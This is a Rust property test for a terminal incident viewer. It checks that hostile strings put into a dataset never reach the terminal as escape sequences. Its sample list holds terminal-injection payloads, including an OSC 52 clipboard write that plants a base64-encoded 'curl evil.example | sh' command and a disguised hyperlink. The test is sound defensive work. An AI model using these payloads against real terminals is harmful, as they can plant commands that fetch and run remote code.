//! Hostile text must never reach the terminal as anything but text.
//!
//! Generated strings full of escape sequences (CSI, OSC, DCS, APC, PM, SOS,
//! 8-bit C1), bidi controls, tabs, NUL, CR and backspace are put in every
//! string of a dataset (ids, fields, unknown keys and values, titles,
//! article text, quotes). The dataset goes through the real loader and the
//! real app and is drawn by ratatui's crossterm backend into a byte buffer.
//! The bytes may hold only the sequences the program writes itself: cursor
//! moves, SGR styling, clearing, and showing/hiding the cursor.

use incidents::app::{Action, App, Msg};
use incidents::dataset::load_bytes;
use incidents::ui;
use proptest::prelude::*;
use ratatui::backend::CrosstermBackend;
use ratatui::layout::Rect;
use ratatui::{Terminal, TerminalOptions, Viewport};
use serde_json::json;

const PIECES: &[&str] = &[
    "Kirkuk",
    " ",
    "killed three",
    "كركوك",
    "سلێمانی",
    "北京市",
    "👨\u{200D}👩\u{200D}👧",
    "👍🏽",
    "e\u{301}",
    "\u{1b}[31m",
    "\u{1b}[2J",
    "\u{1b}[H",
    "\u{1b}[?1049l",
    "\u{1b}]0;pwned\u{7}",
    "\u{1b}]8;;http://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}",
    "\u{1b}P+q544e\u{1b}\\",
    "\u{1b}_apc payload\u{1b}\\",
    "\u{1b}^privacy\u{1b}\\",
    "\u{1b}Xsos\u{1b}\\",
    "\u{1b}c",
    "\u{1b}7\u{1b}8",
    "\u{9b}2J",
    "\u{9b}31m",
    "\u{9d}0;title\u{9c}",
    "\u{90}dcs\u{9c}",
    "\u{85}",
    "\u{202E}evil\u{202C}",
    "\u{2066}iso\u{2069}",
    "\u{200B}",
    "\u{FEFF}",
    "\t",
    "\0",
    "\r",
    "\u{8}",
    "\u{7}",
    "\u{7f}",
    "\n",
];

fn hostile() -> impl Strategy<Value = String> {
    prop::collection::vec(
        prop_oneof![
            4 => prop::sample::select(PIECES).prop_map(str::to_owned),
            1 => any::<char>().prop_map(|c| c.to_string()),
        ],
        0..12,
    )
    .prop_map(|v| v.concat())
}

/// Checks `bytes` for anything but the sequences ratatui's crossterm
/// backend writes. Returns a description of the first offence.
fn offence(bytes: &[u8]) -> Option<String> {
    let text = match std::str::from_utf8(bytes) {
        Ok(t) => t,
        Err(e) => return Some(format!("invalid UTF-8 at {}", e.valid_up_to())),
    };
    let chars: Vec<char> = text.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c == '\u{1b}' {
            if chars.get(i + 1) != Some(&'[') {
                return Some(format!("ESC followed by {:?} at {i}", chars.get(i + 1)));
            }
            let mut j = i + 2;
            while j < chars.len()
                && (chars[j].is_ascii_digit() || matches!(chars[j], ';' | '?' | ':'))
            {
                j += 1;
            }
            let params: String = chars[i + 2..j].iter().collect();
            match chars.get(j) {
                Some('m' | 'H' | 'J' | 'K') if !params.contains('?') => {}
                Some('h' | 'l') if params == "?25" => {}
                other => return Some(format!("CSI {params:?} {other:?} at {i}")),
            }
            i = j + 1;
            continue;
        }
        if c.is_control() {
            return Some(format!("control character {:?} at {i}", c));
        }
        if matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}') {
            return Some(format!("bidi control {:?} at {i}", c));
        }
        i += 1;
    }
    None
}

fn dataset(strings: &[String]) -> String {
    let s = |i: usize| strings[i % strings.len()].clone();
    let text = format!("{} killed three {} in Kirkuk {}", s(0), s(1), s(2));
    let doc = json!({"type": "document", "id": s(3) + "d", "title": s(4), "outlet": s(5),
        "url": s(6), "published": s(7), "language": s(8), "text": text, s(9): s(10)});
    let inc = json!({"type": "incident", "id": s(11) + "i", "date": s(12), "province": s(13),
    "district": s(14), "location": s(15), "perpetrator": s(16), "target": s(17),
    "event_type": s(18), "killed": 3, "wounded": null, s(19): s(20),
    "sources": [{"document": s(3) + "d", "evidence": [
        {"field": "killed", "start": 0, "end": 12},
        {"field": s(21), "start": 2, "end": 40},
        {"field": "province", "quote": s(22)}
    ]}]});
    format!("{doc}\n{inc}\n")
}

/// A writer whose bytes the test can still read after the backend owns it.
#[derive(Clone, Default)]
struct Shared(std::rc::Rc<std::cell::RefCell<Vec<u8>>>);

impl std::io::Write for Shared {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.borrow_mut().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

fn render_bytes(app: &App, w: u16, h: u16) -> Vec<u8> {
    let out = Shared::default();
    let backend = CrosstermBackend::new(out.clone());
    let mut terminal = Terminal::with_options(
        backend,
        TerminalOptions {
            viewport: Viewport::Fixed(Rect::new(0, 0, w, h)),
        },
    )
    .expect("terminal over a buffer");
    terminal.draw(|f| ui::render(f, app)).expect("draw");
    drop(terminal);
    out.0.take()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 10_000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn hostile_strings_never_reach_the_terminal(
        strings in prop::collection::vec(hostile(), 23),
        w in 30u16..140,
        h in 8u16..45,
        evidence in any::<bool>(),
        help in any::<bool>(),
    ) {
        let data = dataset(&strings);
        let loaded = load_bytes("hostile", data.as_bytes());
        let mut app = App::new(loaded.dataset, "hostile");
        app.update(Msg::Resize(w, h));
        if evidence {
            app.update(Action::NextEvidence);
        }
        if help {
            app.update(Action::ToggleHelp);
        }
        let bytes = render_bytes(&app, w, h);
        prop_assert!(offence(&bytes).is_none(), "{:?}", offence(&bytes));
    }
}

#[test]
fn the_checker_catches_what_it_should() {
    assert!(offence(b"\x1b[31mok\x1b[0m\x1b[1;1H\x1b[?25l").is_none());
    assert!(offence(b"\x1b]0;x\x07").is_some());
    assert!(offence("\u{9b}2J".as_bytes()).is_some());
    assert!(offence(b"a\rb").is_some());
    assert!(offence("\u{202E}".as_bytes()).is_some());
    assert!(offence(b"\x1b[?1049l").is_some());
}
